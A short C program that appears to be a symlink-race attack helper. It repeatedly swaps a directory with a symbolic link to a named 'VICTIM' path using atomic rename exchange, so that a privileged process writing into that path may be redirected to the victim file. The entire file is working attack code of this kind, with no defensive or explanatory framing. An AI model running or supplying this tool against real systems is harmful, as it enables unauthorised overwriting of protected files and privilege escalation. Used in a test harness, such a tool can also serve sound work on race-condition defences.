/* swapper FOLDER NAME VICTIM SECONDS: makes FOLDER/NAME a directory and a link to VICTIM by turns, as fast as it can. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    int folder = open(argv[1], O_RDONLY | O_DIRECTORY);
    char other[256], file[300];
    snprintf(other, sizeof other, "%.200s-other", argv[2]);
    snprintf(file, sizeof file, "%s/file", argv[2]);
    time_t end = time(NULL) + atoi(argv[4]);
    puts("swapping");
    fflush(stdout);
    while (time(NULL) < end) {
        mkdirat(folder, argv[2], 0700);
        if (symlinkat(argv[3], folder, other) != 0 && faccessat(folder, other, F_OK, AT_SYMLINK_NOFOLLOW) != 0) return 1;
        int made = openat(folder, file, O_CREAT | O_WRONLY | O_NOFOLLOW, 0600);
        if (made >= 0) close(made);
        for (int i = 0; i < 1000; i++) renameat2(folder, argv[2], folder, other, RENAME_EXCHANGE);
    }
    return 0;
}
